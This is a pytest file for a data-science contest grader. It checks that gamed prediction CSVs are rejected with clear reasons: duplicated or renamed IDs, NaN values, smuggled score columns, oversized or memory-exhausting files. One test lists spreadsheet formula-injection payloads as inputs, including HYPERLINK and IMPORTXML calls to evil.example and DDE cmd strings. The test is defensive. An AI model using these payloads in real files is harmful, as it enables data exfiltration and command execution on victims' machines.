"""Predictions entries built to game the board: none scores, each gets a clear reason.

(Probing the labels with many entries is a quota matter, for the contests app.)
"""

from __future__ import annotations

import os
import time

import pytest

from grader.challenges.predictions import ParseLimits, score_predictions

from .prediction_builders import (
    CLASS_LABELS,
    IDS,
    NUMBER_LABELS,
    PRIVATE_IDS,
    PUBLIC_IDS,
    entry_csv,
    make_challenge,
    write_entry,
)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def accuracy(tmp_path_factory):
    return make_challenge(tmp_path_factory.mktemp("cheats"), "accuracy")


@pytest.fixture(scope="module")
def rmse(tmp_path_factory):
    return make_challenge(tmp_path_factory.mktemp("cheats"), "rmse")


def rejected(spec, path, code: str, limits: ParseLimits | None = None) -> str:
    result = score_predictions(spec, path, limits)
    assert result.status == "rejected", result.to_dict()
    assert result.reason_code == code, result.reason
    assert result.to_dict()["public"]["score"] is None
    assert result.to_dict()["private"]["score"] is None
    return result.reason


def test_ids_duplicated_for_double_weight(accuracy, tmp_path):
    # The rows the team is sure of, written three times each, on top of a full entry.
    rows = (
        list(zip(IDS, CLASS_LABELS, strict=False))
        + list(zip(IDS[:4], CLASS_LABELS[:4], strict=False)) * 2
    )
    path = write_entry(tmp_path, entry_csv(rows))
    assert "has 3 rows" in rejected(accuracy, path, "duplicate-id")


def test_public_rows_copied_in_place_of_the_private_ones(accuracy, tmp_path):
    # Public rows tuned on the public board, written twice to fill the private row count.
    rows = list(zip(PUBLIC_IDS, CLASS_LABELS, strict=False)) * 2 + list(
        zip(PUBLIC_IDS[:4], CLASS_LABELS[:4], strict=False)
    )
    path = write_entry(tmp_path, entry_csv(rows))
    assert len(rows) == len(IDS)
    rejected(accuracy, path, "duplicate-id")


def test_only_the_public_rows_and_the_reason_does_not_say_which_are_private(accuracy, tmp_path):
    path = write_entry(tmp_path, entry_csv(zip(PUBLIC_IDS, CLASS_LABELS, strict=False)))
    reason = rejected(accuracy, path, "missing-id")
    assert "12 ids" in reason and "private" not in reason and "public" not in reason


def test_private_ids_renamed_to_reach_the_public_board_twice(accuracy, tmp_path):
    rows = list(zip(PUBLIC_IDS, CLASS_LABELS, strict=False)) + [
        (f"{i}.0", "cat") for i in PRIVATE_IDS
    ]
    path = write_entry(tmp_path, entry_csv(rows))
    assert "'9.0'" in rejected(accuracy, path, "unknown-id")


@pytest.mark.parametrize("value", ["nan", "inf", "-Infinity", "1e400"])
def test_nan_and_infinity(rmse, tmp_path, value):
    # NaN compares unequal to everything and inf overflows a mean: neither may reach a metric.
    values = list(NUMBER_LABELS)
    values[9] = value
    rejected(rmse, write_entry(tmp_path, entry_csv(zip(IDS, values, strict=False))), "nan")


@pytest.mark.parametrize("column", ["score", "public_score", "split", "weight", "private"])
def test_extra_columns_cannot_smuggle_a_score_or_a_split(accuracy, tmp_path, column):
    rows = [f"{i},{y},1.0" for i, y in zip(IDS, CLASS_LABELS, strict=False)]
    path = write_entry(tmp_path, entry_csv(rows, header=f"id,label,{column}"))
    assert f"'{column}'" in rejected(accuracy, path, "extra-column")


def test_a_score_row_after_the_data(accuracy, tmp_path):
    rows = [*zip(IDS, CLASS_LABELS, strict=False), "score,1.0"]
    rejected(accuracy, write_entry(tmp_path, entry_csv(rows)), "unknown-id")


def test_a_huge_file_is_refused_before_a_byte_is_read(accuracy, tmp_path):
    path = tmp_path / "huge.csv"
    with path.open("wb") as handle:  # sparse: 2 GB long, no disk used
        handle.write(b"id,label\n")
        handle.truncate(2 * 1024**3)
    started = time.monotonic()
    reason = rejected(accuracy, path, "too-large")
    assert "2147483648 bytes" in reason
    assert time.monotonic() - started < 5  # a stat, not a read (generous for a busy machine)


def test_the_child_caps_what_it_reads_even_when_the_size_looked_small(accuracy, tmp_path):
    # The parent checks the size it sees; the child reads at most max_bytes + 1 whatever it is.
    data = entry_csv(zip(IDS, CLASS_LABELS, strict=False)) + b"\n" * 5000
    path = write_entry(tmp_path, data)
    limits = ParseLimits(max_bytes=len(data) + 10, max_rows=100)
    assert score_predictions(accuracy, path, limits).status == "scored"
    os.truncate(path, 0)
    path.write_bytes(data + b"\n" * 200)
    from grader.challenges.metrics import get_metric
    from grader.challenges.predictions import parse_in_child

    answer = parse_in_child(path, get_metric("accuracy"), accuracy, limits)
    assert answer["code"] == "too-large" and "larger than" in answer["reason"]


def test_too_many_rows(accuracy, tmp_path):
    rows = [(f"x{i}", "cat") for i in range(300)]
    limits = ParseLimits(max_bytes=1024**2, max_rows=200)
    path = write_entry(tmp_path, entry_csv(rows))
    assert "more than 200 rows" in rejected(accuracy, path, "too-large", limits)


def test_one_endless_field(accuracy, tmp_path):
    # An unclosed quote swallows the rest of the file into one field.
    path = write_entry(tmp_path, b'id,label\n1,"' + b"a" * 900_000 + b"\n")
    assert "longer than 1024 characters" in rejected(accuracy, path, "too-large")


def test_a_csv_that_needs_too_much_memory_ends_the_child_not_the_grader(accuracy, tmp_path):
    # Two million short rows: 20 MB on disk, a few hundred MB as Python strings and lists.
    path = write_entry(tmp_path, b"id,label\n" + b"".join(b"%d,a\n" % i for i in range(2_000_000)))
    limits = ParseLimits(max_bytes=64 * 1024**2, max_rows=10**8, memory_bytes=96 * 1024**2)
    reason = rejected(accuracy, path, "too-large", limits)
    assert "memory" in reason
    # The grader is fine: the next entry scores.
    good = write_entry(tmp_path, entry_csv(zip(IDS, CLASS_LABELS, strict=False)), "good.csv")
    assert score_predictions(accuracy, good).status == "scored"


@pytest.mark.parametrize(
    ("header", "row", "code"),
    [
        ("id,label", '=HYPERLINK("http://evil.example/?"&A1;"click"),cat', "unknown-id"),
        ("id,label", "1,=cmd|' /C calc'!A0", "wrong-label"),
        ("id,label", "1,@SUM(1+1)*cmd|' /C calc'!A0", "wrong-label"),
        (
            '"=IMPORTXML(CONCAT(""http://evil.example/?"",A2),""//a"")",label',
            "1,cat",
            "missing-column",
        ),
        ("id,label", "1,+1+cmd", "non-numeric"),
        ("id,label", "1,-2+3", "non-numeric"),
    ],
)
def test_formula_injection_is_refused_and_never_echoed_as_a_formula(
    accuracy, rmse, tmp_path, header, row, code
):
    spec = rmse if code == "non-numeric" else accuracy
    rows = [row] + [
        f"{i},{y}"
        for i, y in zip(
            IDS[1:], (NUMBER_LABELS if spec is rmse else CLASS_LABELS)[1:], strict=False
        )
    ]
    if code == "unknown-id":
        rows.append(f"1,{CLASS_LABELS[0]}")
    reason = rejected(spec, write_entry(tmp_path, entry_csv(rows, header=header)), code)
    # The reason is shown on pages and may land in a CSV export: it starts with words, and a
    # quoted value is cut short inside quote marks.
    assert not reason.startswith(FORMULA_STARTS)
    for cell in (part for part in row.split(",") + header.split(",") if part[:1] in "=+-@"):
        assert cell not in reason or len(cell) <= 24
